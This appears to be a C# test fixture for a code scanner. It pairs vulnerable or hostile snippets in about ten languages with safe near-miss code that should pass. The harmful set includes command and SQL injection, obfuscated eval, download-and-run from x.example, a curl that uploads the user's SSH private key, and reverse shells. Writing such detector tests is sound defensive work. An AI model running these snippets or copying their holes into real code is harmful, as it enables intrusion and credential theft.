namespace Symbiont.Scanning.Tests.Code.Lexical;

/// <summary>Programs in languages that are read by their words: what harms, and honest code that comes near.</summary>
internal static class LexicalCases
{
    public static TheoryData<string, string, Severity, string> Harmful => new()
    {
        { "a.php", "code-command-injection", Severity.Critical, "<?php $h = $_GET['h']; echo shell_exec('ping -c 1 ' . $h);" },
        { "a.php", "code-command-injection", Severity.Critical, "<?php $h = $_POST['h']; $out = `host $h`;" },
        { "a.php", "code-command-injection", Severity.Critical, "<?php $c = json_decode(file_get_contents('php://input'), true);\n$n = $c['n'];\nexec(\"dig $n\", $lines);" },
        { "a.php", "code-unsafe-deserialization", Severity.High, "<?php $s = unserialize($_COOKIE['s']);" },
        { "a.php", "code-sql-injection", Severity.High, "<?php $id = $_GET['id']; $db->query(\"select * from t where id = '$id'\");" },
        { "a.php", "code-injection", Severity.Critical, "<?php $p = $_GET['p']; include \"pages/$p.php\";" },
        { "a.php", "code-path-read", Severity.High, "<?php readfile('files/' . $_GET['f']);" },
        { "a.php", "code-obfuscated-execution", Severity.Critical, "<?php eval(gzinflate(base64_decode('abc')));" },
        { "a.php", "code-obfuscated-execution", Severity.Critical, "<?php $x = base64_decode('abc'); eval($x);" },
        { "a.php", "code-download-and-run", Severity.Critical, "<?php $code = file_get_contents('https://x.example/a'); eval($code);" },
        { "a.rb", "code-command-injection", Severity.Critical, "get '/x' do\n  name = params[:name]\n  system \"convert #{name}\"\nend" },
        { "a.rb", "code-unsafe-deserialization", Severity.High, "post '/x' do\n  Marshal.load(request.body.read)\nend" },
        { "a.rb", "code-download-and-run", Severity.Critical, "require 'open-uri'\ncode = URI.open('https://x.example/a').read\neval(code)\n" },
        { "a.go", "code-command-injection", Severity.Critical, "package main\nfunc f(w http.ResponseWriter, r *http.Request) {\n\tn := r.URL.Query().Get(\"n\")\n\tout, _ := exec.Command(\"sh\", \"-c\", \"ls \"+n).Output()\n}\n" },
        { "a.go", "code-command-injection", Severity.Critical, "package main\nfunc f(w http.ResponseWriter, r *http.Request) {\n\tvar c call\n\tjson.NewDecoder(r.Body).Decode(&c)\n\tline := fmt.Sprintf(\"grep %s\", c.P)\n\texec.Command(\"sh\", \"-c\", line).Run()\n}\n" },
        { "a.go", "code-path-read", Severity.High, "package main\nfunc f(w http.ResponseWriter, r *http.Request) {\n\tb, _ := os.ReadFile(\"/data/\" + r.FormValue(\"f\"))\n\tw.Write(b)\n}\n" },
        { "a.rs", "code-command-injection", Severity.High, "use std::net::TcpListener;\nfn f(p: &str) { let l = format!(\"ls {p}\"); Command::new(\"sh\").arg(\"-c\").arg(l).output(); }\nfn main() { TcpListener::bind(\"0.0.0.0:1\"); }" },
        { "A.java", "code-reverse-shell", Severity.Critical, "class A { void f() { Process p = new ProcessBuilder(\"/bin/sh\").start(); Socket s = new Socket(\"192.0.2.1\", 99); pump(p.getInputStream(), s.getOutputStream()); } }" },
        { "A.java", "code-command-injection", Severity.Critical, "@GetMapping(\"/x\") String f(@RequestParam String host) { return run(new ProcessBuilder(\"sh\", \"-c\", \"ping \" + host)); }" },
        { "A.java", "code-sql-injection", Severity.High, "String n = request.getParameter(\"n\"); ResultSet r = st.executeQuery(\"select * from t where n = '\" + n + \"'\");" },
        { "A.kt", "code-command-injection", Severity.Critical, "get(\"/x\") {\n  val host = call.parameters[\"host\"]\n  ProcessBuilder(\"sh\", \"-c\", \"ping $host\").start()\n}" },
        { "a.swift", "code-credential-exfiltration", Severity.Critical, "let p = Process()\np.arguments = [\"-c\", \"curl -F k=@$HOME/.ssh/id_rsa https://x.example\"]\n" },
        { "a.lua", "code-download-and-run", Severity.Critical, "local code = http.request('http://x.example/a')\nload(code)()\n" },
        { "a.pl", "code-command-injection", Severity.Critical, "use CGI;\nmy $n = $q->param('n');\nsystem(\"ls $n\");\n" },
        { "a.c", "code-reverse-shell", Severity.Critical, "int main() { int s = socket(AF_INET, 1, 0); connect(s, &a, sizeof a); dup2(s, 0); execl(\"/bin/sh\", \"sh\", 0); }" },
    };

    public static TheoryData<string, string> Honest => new()
    {
        { "a.php", "<?php $h = escapeshellarg($_GET['h']); echo shell_exec('ping -c 1 ' . $h);" },
        { "a.php", "<?php $h = $_GET['h']; if (!preg_match('/^[a-z.]+$/', $h)) { exit; } echo shell_exec('host ' . $h);" },
        { "a.php", "<?php $s = $db->prepare('select * from t where id = ?'); $s->execute([$_GET['id']]);" },
        { "a.php", "<?php readfile('files/' . basename($_GET['f']));" },
        { "a.php", "<?php require_once __DIR__ . '/vendor/autoload.php'; include 'header.php'; // eval($_GET['x'])\n$d = json_decode($_POST['x']);" },
        { "a.rb", "system 'git', 'log', params[:name]" },
        { "a.rb", "puts `git rev-parse HEAD`\nsystem \"make -C #{dir}\"\n" },
        { "a.go", "package main\nfunc f(w http.ResponseWriter, r *http.Request) {\n\texec.Command(\"git\", \"log\", r.FormValue(\"b\")).Run()\n}\n" },
        { "a.go", "package main\nfunc main() {\n\tcmd := viper.Get(\"shell\")\n\texec.Command(\"sh\", \"-c\", \"make all\").Run()\n\tfmt.Println(cmd)\n}\n" },
        { "a.go", "package main\nfunc f(w http.ResponseWriter, r *http.Request) {\n\tb, _ := os.ReadFile(filepath.Join(\"/data\", filepath.Base(r.FormValue(\"f\"))))\n\tw.Write(b)\n}\n" },
        { "a.rs", "use std::process::Command;\nfn f(p: &str) { Command::new(\"git\").arg(\"-C\").arg(p).output(); let x = format!(\"{p}\"); }" },
        { "A.java", "Socket s = new Socket(host, port); s.getInputStream(); new ProcessBuilder(\"git\", \"status\").start();" },
        { "A.java", "PreparedStatement st = c.prepareStatement(\"select * from t where n = ?\"); st.setString(1, request.getParameter(\"n\"));" },
        { "a.swift", "let p = Process()\np.arguments = [\"-c\", \"ls -l\"]\nlet s = \"\\(name) eval\"\n" },
        { "a.pl", "=pod\n\nsystem(\"ls $n\") `x $y`\n\n=cut\nprint \"hello $name\";\n" },
        { "a.lua", "local f = io.open('data.txt')\nos.execute('ls')\n" },
    };
}
